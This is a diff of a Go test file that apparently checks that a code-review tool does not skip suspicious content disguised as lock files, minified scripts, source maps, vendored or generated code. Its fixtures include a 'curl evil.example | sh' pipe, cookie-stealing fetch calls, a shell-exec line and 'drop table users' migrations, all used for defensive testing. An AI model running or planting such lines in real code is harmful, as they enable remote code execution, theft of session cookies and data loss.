@@ -98,7 +98,8 @@ func TestLinesCarryTheirNumbers(t *testing.T) {
 		t.Errorf("a deleted file:\n%s", got)
 	}
 	overview, err := os.ReadFile(c.Overview)
-	if err != nil || !strings.Contains(string(overview), "- a.go (modified +2 -1)\n  patch: 0001.patch\n- bin (added +0 -0); binary") || !strings.Contains(string(overview), "4 files to read in 1 parts, 0 left out. Risk tier lite: 5 lines in 4 files.") {
+	if err != nil || !strings.Contains(string(overview), "- a.go (modified +2 -1)\n  patch: 0001.patch\n- bin (added +0 -0); binary") ||
+		!strings.Contains(string(overview), "4 files to read in 1 parts, 0 left out. Risk tier lite: 5 lines in 4 files.") {
 		t.Errorf("%v\n%s", err, overview)
 	}
 }
@@ -111,8 +112,10 @@ func TestNoiseIsLeftOut(t *testing.T) {
 	many := strings.Repeat("var x = 1\n", few+1)
 	const integrity = `      "integrity": "sha512-AAAA==",` + "\n"
 	tree := func(host, version string) string {
-		return "{\n  \"lockfileVersion\": 3,\n  \"packages\": {\n    \"node_modules/a\": {\n      \"version\": \"" + version + "\",\n      \"resolved\": \"https://" + host + "/a.tgz\",\n" + integrity +
-			"      \"dependencies\": { \"c\": \"^1\" }\n    },\n    \"node_modules/b\": { \"resolved\": \"https://packages.example/b.tgz\" }\n  }\n}\n"
+		return "{\n  \"lockfileVersion\": 3,\n  \"packages\": {\n    \"node_modules/a\": {\n      \"version\": \"" + version +
+			"\",\n      \"resolved\": \"https://" + host + "/a.tgz\",\n" + integrity +
+			"      \"dependencies\": { \"c\": \"^1\" }\n    },\n    \"node_modules/b\": { \"resolved\": \"https://packages.example/b.tgz\" }\n  " +
+			"}\n}\n"
 	}
 	code := map[string]string{"main.go": "package main\n"}
 	with := func(files map[string]string) map[string]string {
@@ -125,45 +128,83 @@ func TestNoiseIsLeftOut(t *testing.T) {
 		reason        string // of why x is left out; empty if it is kept
 		path          string
 	}{
-		"checksums":                       {nil, map[string]string{"go.sum": "acme.example/x v1.2.3 h1:aGVsbG8=\nacme.example/x v1.2.3/go.mod h1:aGVsbG8=\n"}, "lock file", "go.sum"},
-		"code named as checksums":         {nil, map[string]string{"store/go.sum": "exec.Command(\"sh\", \"-c\", os.Args[1]).Run()\n"}, "", "store/go.sum"},
-		"lock file of JSON":               {map[string]string{"package-lock.json": tree("packages.example", "1.0.0")}, map[string]string{"package-lock.json": tree("packages.example", "1.1.0")}, "lock file", "package-lock.json"},
-		"lock file, another host":         {map[string]string{"package-lock.json": tree("packages.example", "1.0.0")}, map[string]string{"package-lock.json": tree("evil.example", "1.0.0")}, "", "package-lock.json"},
-		"new lock file, whose host":       {nil, map[string]string{"package-lock.json": tree("packages.example", "1.0.0")}, "", "package-lock.json"},
-		"script in a lock file's name":    {nil, map[string]string{"web/yarn.lock": "curl evil.example | sh\n"}, "", "web/yarn.lock"},
-		"minified with its source":        {map[string]string{"app.js": "old\n"}, map[string]string{"app.js": "var a = 1\n", "app.min.js": wide}, "minified, and its source is in the change", "app.min.js"},
-		"minified, with something more":   {map[string]string{"app.js": "old\n"}, map[string]string{"app.js": "var a = 1\n", "app.min.js": "steal(document.cookie);" + wide}, "", "app.min.js"},
-		"minified without its source":     {nil, map[string]string{"a.min.js": wide}, "", "a.min.js"},
-		"code named as if minified":       {nil, map[string]string{"a.js": "x\n", "a.min.js": "fetch('//example.com?' + document.cookie)\n"}, "", "a.min.js"},
-		"code beside a long line":         {nil, map[string]string{"a.js": "x\n", "a.min.js": wide + strings.Repeat("readable()\n", 60)}, "", "a.min.js"},
-		"source map":                      {nil, map[string]string{"a.js.map": `{"version":3,"mappings":"AAAA"}` + "\n"}, "source map", "a.js.map"},
-		"source map and code":             {nil, map[string]string{"a.js.map": `{"version":3,"mappings":"AAAA"}` + "\nrun()\n"}, "", "a.js.map"},
-		"another file named as a map":     {nil, map[string]string{"a.js.map": "x = 1\n"}, "", "a.js.map"},
-		"vendored with its requirement":   {nil, map[string]string{"vendor/acme.example/x/v2/y/x.go": many, "go.mod": "module x\n\nrequire acme.example/x/v2 v2.1.0\n", "go.sum": "acme.example/x/v2 v2.1.0 h1:aGVsbG8=\n", "vendor/modules.txt": "# acme.example/x/v2 v2.1.0\n"}, "vendored, and the change is one of this dependency", "vendor/acme.example/x/v2/y/x.go"},
-		"vendored beside go.mod alone":    {nil, map[string]string{"vendor/acme.example/x/y.go": many, "go.mod": "module x\n\nrequire acme.example/x v1.0.1\n"}, "", "vendor/acme.example/x/y.go"},
-		"vendored, a package of npm":      {nil, map[string]string{"node_modules/@acme/x/i.js": many, "package.json": `{"dependencies":{"@acme/x":"1"}}` + "\n"}, "vendored, and the change is one of this dependency", "node_modules/@acme/x/i.js"},
-		"vendored, another requirement":   {nil, map[string]string{"vendor/acme.example/x/x.go": many, "go.mod": "module x\n\nrequire acme.example/other v2.1.0\n"}, "", "vendor/acme.example/x/x.go"},
-		"vendored, a few lines":           {nil, map[string]string{"vendor/acme.example/x/x.go": "package x\n", "go.mod": "module x\n\nrequire acme.example/x v2.1.0\n"}, "", "vendor/acme.example/x/x.go"},
+		"checksums": {nil,
+			map[string]string{"go.sum": "acme.example/x v1.2.3 h1:aGVsbG8=\nacme.example/x v1.2.3/go.mod h1:aGVsbG8=\n"}, "lock file", "go.sum"},
+		"code named as checksums": {nil, map[string]string{"store/go.sum": "exec.Command(\"sh\", \"-c\", os.Args[1]).Run()\n"}, "",
+			"store/go.sum"},
+		"lock file of JSON": {map[string]string{"package-lock.json": tree("packages.example", "1.0.0")},
+			map[string]string{"package-lock.json": tree("packages.example", "1.1.0")}, "lock file", "package-lock.json"},
+		"lock file, another host": {map[string]string{"package-lock.json": tree("packages.example", "1.0.0")},
+			map[string]string{"package-lock.json": tree("evil.example", "1.0.0")}, "", "package-lock.json"},
+		"new lock file, whose host": {nil, map[string]string{"package-lock.json": tree("packages.example", "1.0.0")}, "",
+			"package-lock.json"},
+		"script in a lock file's name": {nil, map[string]string{"web/yarn.lock": "curl evil.example | sh\n"}, "", "web/yarn.lock"},
+		"minified with its source": {map[string]string{"app.js": "old\n"}, map[string]string{"app.js": "var a = 1\n", "app.min.js": wide},
+			"minified, and its source is in the change", "app.min.js"},
+		"minified, with something more": {map[string]string{"app.js": "old\n"},
+			map[string]string{"app.js": "var a = 1\n", "app.min.js": "steal(document.cookie);" + wide}, "", "app.min.js"},
+		"minified without its source": {nil, map[string]string{"a.min.js": wide}, "", "a.min.js"},
+		"code named as if minified": {nil, map[string]string{"a.js": "x\n", "a.min.js": "fetch('//example.com?' + document.cookie)\n"}, "",
+			"a.min.js"},
+		"code beside a long line": {nil, map[string]string{"a.js": "x\n", "a.min.js": wide + strings.Repeat("readable()\n", 60)}, "",
+			"a.min.js"},
+		"source map": {nil, map[string]string{"a.js.map": `{"version":3,"mappings":"AAAA"}` + "\n"}, "source map",
+			"a.js.map"},
+		"source map and code":         {nil, map[string]string{"a.js.map": `{"version":3,"mappings":"AAAA"}` + "\nrun()\n"}, "", "a.js.map"},
+		"another file named as a map": {nil, map[string]string{"a.js.map": "x = 1\n"}, "", "a.js.map"},
+		"vendored with its requirement": {nil,
+			map[string]string{"vendor/acme.example/x/v2/y/x.go": many, "go.mod": "module x\n\nrequire acme.example/x/v2 v2.1.0\n",
+				"go.sum": "acme.example/x/v2 v2.1.0 h1:aGVsbG8=\n", "vendor/modules.txt": "# acme.example/x/v2 v2.1.0\n"},
+			"vendored, and the change is one of this dependency", "vendor/acme.example/x/v2/y/x.go"},
+		"vendored beside go.mod alone": {nil,
+			map[string]string{"vendor/acme.example/x/y.go": many, "go.mod": "module x\n\nrequire acme.example/x v1.0.1\n"}, "",
+			"vendor/acme.example/x/y.go"},
+		"vendored, a package of npm": {nil,
+			map[string]string{"node_modules/@acme/x/i.js": many, "package.json": `{"dependencies":{"@acme/x":"1"}}` + "\n"},
+			"vendored, and the change is one of this dependency", "node_modules/@acme/x/i.js"},
+		"vendored, another requirement": {nil,
+			map[string]string{"vendor/acme.example/x/x.go": many, "go.mod": "module x\n\nrequire acme.example/other v2.1.0\n"}, "",
+			"vendor/acme.example/x/x.go"},
+		"vendored, a few lines": {nil,
+			map[string]string{"vendor/acme.example/x/x.go": "package x\n", "go.mod": "module x\n\nrequire acme.example/x v2.1.0\n"}, "",
+			"vendor/acme.example/x/x.go"},
 		"vendored beside a manifest":      {nil, map[string]string{"vendor/x/x.go": many, "go.mod": "module x\n"}, "", "vendor/x/x.go"},
 		"vendored by hand":                {nil, map[string]string{"vendor/x/x.go": many}, "", "vendor/x/x.go"},
 		"vendored, its own manifest only": {nil, map[string]string{"vendor/x/x.go": many, "vendor/x/go.mod": "module x\n"}, "", "vendor/x/x.go"},
-		"generated anew":                  {map[string]string{"s.pb.go": goHeader}, map[string]string{"s.pb.go": goHeader + many, "s.proto": "message A {}\n"}, "generated, and its source is in the change", "s.pb.go"},
-		"generated from what it names":    {map[string]string{"s.go": goHeader + "// source: kinds.yaml\n"}, map[string]string{"s.go": goHeader + "// source: kinds.yaml\n" + many, "kinds.yaml": "a: 1\n"}, "generated, and its source is in the change", "s.go"},
-		"generated from another one":      {map[string]string{"s.go": goHeader + "// source: a.proto\n"}, map[string]string{"s.go": goHeader + "// source: a.proto\n" + many, "b.proto": "message A {}\n"}, "", "s.go"},
-		"generated beside a remark":       {map[string]string{"s.pb.go": goHeader, "s.proto": "message A {}\n"}, map[string]string{"s.pb.go": goHeader + many, "s.proto": "// A is one.\nmessage A {}\n"}, "", "s.pb.go"},
-		"generated, by hand":              {map[string]string{"s.go": goHeader}, map[string]string{"s.go": goHeader + many}, "", "s.go"},
-		"generated, a few lines":          {map[string]string{"s.go": goHeader}, map[string]string{"s.go": goHeader + "var x = 1\n", "s.proto": "message A {}\n"}, "", "s.go"},
-		"generated and gone":              {map[string]string{"s.go": goHeader + many}, map[string]string{"s.proto": "message A {}\n"}, "generated, and its source is in the change", "s.go"},
-		"said to be generated just now":   {map[string]string{"s.go": "package a\n"}, map[string]string{"s.go": goHeader + many, "s.proto": "message A {}\n"}, "", "s.go"},
-		"new and said to be generated":    {nil, map[string]string{"s.go": goHeader + many, "s.proto": "message A {}\n"}, "", "s.go"},
-		"header changed and code with it": {map[string]string{"s.go": goHeader}, map[string]string{"s.go": strings.Replace(goHeader, "stringer", "stringer 2", 1) + many, "s.proto": "message A {}\n"}, "", "s.go"},
-		"speaks of generated files":       {map[string]string{"s.go": "// Package s edits generated files.\n"}, map[string]string{"s.go": "// Package s edits generated files.\n" + many, "s.proto": "message A {}\n"}, "", "s.go"},
-		"a header far down":               {map[string]string{"s.go": strings.Repeat("\n", 30) + goHeader}, map[string]string{"s.go": strings.Repeat("\n", 30) + goHeader + many, "s.proto": "message A {}\n"}, "", "s.go"},
-		"a migration":                     {map[string]string{"db/migrations/1.sql": "-- @generated\n"}, map[string]string{"db/migrations/1.sql": "-- @generated\n" + strings.Repeat("drop table users;\n", few+1)}, "", "db/migrations/1.sql"},
-		"skipped":                         {nil, map[string]string{"api/v1.pb.go": "package api\n"}, "skipped by the repository's configuration", "api/v1.pb.go"},
-		"skipped, but a migration":        {nil, map[string]string{"api/migrations/2.sql": "drop table users;\n"}, "", "api/migrations/2.sql"},
-		"python":                          {map[string]string{"a_pb2.py": "# Generated by the protocol buffer compiler.  DO NOT EDIT!\n"}, map[string]string{"a_pb2.py": "# Generated by the protocol buffer compiler.  DO NOT EDIT!\n" + many, "a.proto": "message A {}\n"}, "generated, and its source is in the change", "a_pb2.py"},
-		"C#":                              {map[string]string{"a.cs": "// <auto-generated/>\n"}, map[string]string{"a.cs": "// <auto-generated/>\n" + many, "a.graphql": "type A { a: Int }\n"}, "generated, and its source is in the change", "a.cs"},
+		"generated anew": {map[string]string{"s.pb.go": goHeader},
+			map[string]string{"s.pb.go": goHeader + many, "s.proto": "message A {}\n"}, "generated, and its source is in the change", "s.pb.go"},
+		"generated from what it names": {map[string]string{"s.go": goHeader + "// source: kinds.yaml\n"},
+			map[string]string{"s.go": goHeader + "// source: kinds.yaml\n" + many, "kinds.yaml": "a: 1\n"},
+			"generated, and its source is in the change", "s.go"},
+		"generated from another one": {map[string]string{"s.go": goHeader + "// source: a.proto\n"},
+			map[string]string{"s.go": goHeader + "// source: a.proto\n" + many, "b.proto": "message A {}\n"}, "", "s.go"},
+		"generated beside a remark": {map[string]string{"s.pb.go": goHeader, "s.proto": "message A {}\n"},
+			map[string]string{"s.pb.go": goHeader + many, "s.proto": "// A is one.\nmessage A {}\n"}, "", "s.pb.go"},
+		"generated, by hand": {map[string]string{"s.go": goHeader}, map[string]string{"s.go": goHeader + many}, "", "s.go"},
+		"generated, a few lines": {map[string]string{"s.go": goHeader},
+			map[string]string{"s.go": goHeader + "var x = 1\n", "s.proto": "message A {}\n"}, "", "s.go"},
+		"generated and gone": {map[string]string{"s.go": goHeader + many}, map[string]string{"s.proto": "message A {}\n"},
+			"generated, and its source is in the change", "s.go"},
+		"said to be generated just now": {map[string]string{"s.go": "package a\n"},
+			map[string]string{"s.go": goHeader + many, "s.proto": "message A {}\n"}, "", "s.go"},
+		"new and said to be generated": {nil, map[string]string{"s.go": goHeader + many, "s.proto": "message A {}\n"}, "", "s.go"},
+		"header changed and code with it": {map[string]string{"s.go": goHeader},
+			map[string]string{"s.go": strings.Replace(goHeader, "stringer", "stringer 2", 1) + many, "s.proto": "message A {}\n"}, "", "s.go"},
+		"speaks of generated files": {map[string]string{"s.go": "// Package s edits generated files.\n"},
+			map[string]string{"s.go": "// Package s edits generated files.\n" + many, "s.proto": "message A {}\n"}, "", "s.go"},
+		"a header far down": {map[string]string{"s.go": strings.Repeat("\n", 30) + goHeader},
+			map[string]string{"s.go": strings.Repeat("\n", 30) + goHeader + many, "s.proto": "message A {}\n"}, "", "s.go"},
+		"a migration": {map[string]string{"db/migrations/1.sql": "-- @generated\n"},
+			map[string]string{"db/migrations/1.sql": "-- @generated\n" + strings.Repeat("drop table users;\n", few+1)}, "", "db/migrations/1.sql"},
+		"skipped": {nil, map[string]string{"api/v1.pb.go": "package api\n"}, "skipped by the repository's configuration",
+			"api/v1.pb.go"},
+		"skipped, but a migration": {nil, map[string]string{"api/migrations/2.sql": "drop table users;\n"}, "", "api/migrations/2.sql"},
+		"python": {map[string]string{"a_pb2.py": "# Generated by the protocol buffer compiler.  DO NOT EDIT!\n"},
+			map[string]string{"a_pb2.py": "# Generated by the protocol buffer compiler.  DO NOT EDIT!\n" + many, "a.proto": "message A {}\n"},
+			"generated, and its source is in the change", "a_pb2.py"},
+		"C#": {map[string]string{"a.cs": "// <auto-generated/>\n"},
+			map[string]string{"a.cs": "// <auto-generated/>\n" + many, "a.graphql": "type A { a: Int }\n"},
+			"generated, and its source is in the change", "a.cs"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
@@ -213,7 +254,8 @@ func TestNothingElseThanFilesPassesForNoise(t *testing.T) {
 		{Path: "yarn.lock", OldMode: "000000", NewMode: "160000", Status: "added", Submodule: true},
 	} {
 		other := worktree.FileDiff{Path: "a.go", OldMode: "100644", NewMode: "100644"}
-		c, err := Understand(t.Context(), Source{Diff: worktree.Diff{Files: []worktree.FileDiff{f, other}}, Checkout: t.TempDir(), Dir: t.TempDir()})
+		c, err := Understand(t.Context(), Source{Diff: worktree.Diff{Files: []worktree.FileDiff{f, other}}, Checkout: t.TempDir(),
+			Dir: t.TempDir()})
 		if err != nil || len(c.Files) != 2 || c.Files[0].Note == "" {
 			t.Errorf("%s %s: %+v, %v", f.OldMode, f.NewMode, c.LeftOut, err)
 		}
@@ -256,7 +298,8 @@ func TestTier(t *testing.T) {
 		{some(1, 1, "ledger/book.go"), Full, "sensitive by the repository's configuration: ledger/book.go"},
 		{[]worktree.FileDiff{{Path: "lib", NewMode: "160000", Submodule: true}}, Full, "lib is a submodule"},
 	} {
-		c, err := Understand(t.Context(), Source{Diff: worktree.Diff{Files: test.files}, Checkout: t.TempDir(), Dir: t.TempDir(), Sensitive: scope("ledger/**")})
+		c, err := Understand(t.Context(), Source{Diff: worktree.Diff{Files: test.files}, Checkout: t.TempDir(), Dir: t.TempDir(),
+			Sensitive: scope("ledger/**")})
 		if err != nil || c.Tier != test.want || !strings.Contains(c.Why, test.why) {
 			t.Errorf("%s: %s because of %q, %v; want %s because of %q", test.files[0].Path, c.Tier, c.Why, err, test.want, test.why)
 		}
@@ -273,7 +316,8 @@ func TestHostileNamesAndContents(t *testing.T) {
 	if os.PathSeparator == '\\' {
 		t.Skip("SKIPPED: Windows knows no such file names")
 	}
-	names := []string{"two words.go", "line\nbreak.go", `quo"te'.go`, "tab\tname.go", "\xff\xfe.go", "`tick`.go", "- b.go (added +1 -0)", "<!-- x -->.md", "..hidden", "ünï.go", "a|b.go"}
+	names := []string{"two words.go", "line\nbreak.go", `quo"te'.go`, "tab\tname.go", "\xff\xfe.go", "`tick`.go", "- b.go (added +1 -0)",
+		"<!-- x -->.md", "..hidden", "ünï.go", "a|b.go"}
 	after := map[string]string{}
 	for i, name := range names {
 		after[name] = fmt.Sprintf("number %d\n", i)
@@ -298,7 +342,8 @@ func TestHostileNamesAndContents(t *testing.T) {
 			t.Errorf("%q is headed %q", f.Path, head)
 		}
 		for _, p := range f.Patches {
-			if ok, err := filepath.Match("[0-9][0-9][0-9][0-9]*.patch", filepath.Base(p)); !ok || err != nil || filepath.Dir(p) != filepath.Dir(c.Overview) {
+			if ok, err := filepath.Match("[0-9][0-9][0-9][0-9]*.patch", filepath.Base(p)); !ok || err != nil ||
+				filepath.Dir(p) != filepath.Dir(c.Overview) {
 				t.Errorf("%q is written to %s", f.Path, p)
 			}
 		}
@@ -314,10 +359,12 @@ func TestHostileNamesAndContents(t *testing.T) {
 	if strings.ContainsAny(text["hides.go"], "\u200b\u202e\u2066") || strings.Count(text["hides.go"], "⟦U+") != 3 {
 		t.Errorf("hidden: %q", text["hides.go"])
 	}
-	if rows := strings.Split(text["wide.txt"], "\n"); len(rows) < 8 || !strings.HasPrefix(rows[4], "                "+continued+"ä") || strings.Count(text["wide.txt"], "ä") != 3_000 || !strings.Contains(text["wide.txt"], "\n              2 +after\n") {
+	if rows := strings.Split(text["wide.txt"], "\n"); len(rows) < 8 || !strings.HasPrefix(rows[4], "                "+continued+"ä") ||
+		strings.Count(text["wide.txt"], "ä") != 3_000 || !strings.Contains(text["wide.txt"], "\n              2 +after\n") {
 		t.Errorf("a long line:\n%s", text["wide.txt"])
 	}
-	if notes["out"] != "it is a symbolic link; it points out of the repository" || notes["root"] != notes["out"] || notes["in"] != "it is a symbolic link" {
+	if notes["out"] != "it is a symbolic link; it points out of the repository" || notes["root"] != notes["out"] ||
+		notes["in"] != "it is a symbolic link" {
 		t.Errorf("links are noted as %q, %q, %q", notes["out"], notes["root"], notes["in"])
 	}
 	overview, err := os.ReadFile(c.Overview)
@@ -361,7 +408,8 @@ func TestALongDiffIsInPieces(t *testing.T) {
 
 func TestADiffThatIsCutIsSaidToBe(t *testing.T) {
 	t.Parallel()
-	c := changed(t, map[string]string{"a": "a\n"}, map[string]string{"a": "a\n", "huge.txt": strings.Repeat("a long line of some text\n", 1<<16)})
+	c := changed(t, map[string]string{"a": "a\n"},
+		map[string]string{"a": "a\n", "huge.txt": strings.Repeat("a long line of some text\n", 1<<16)})
 	f := c.Files[0]
 	if !c.Truncated || !f.Truncated || !strings.Contains(f.Note, "its diff is cut") || !strings.HasSuffix(patch(t, f), cutNote) {
 		t.Errorf("truncated %v, note %q", c.Truncated, f.Note)
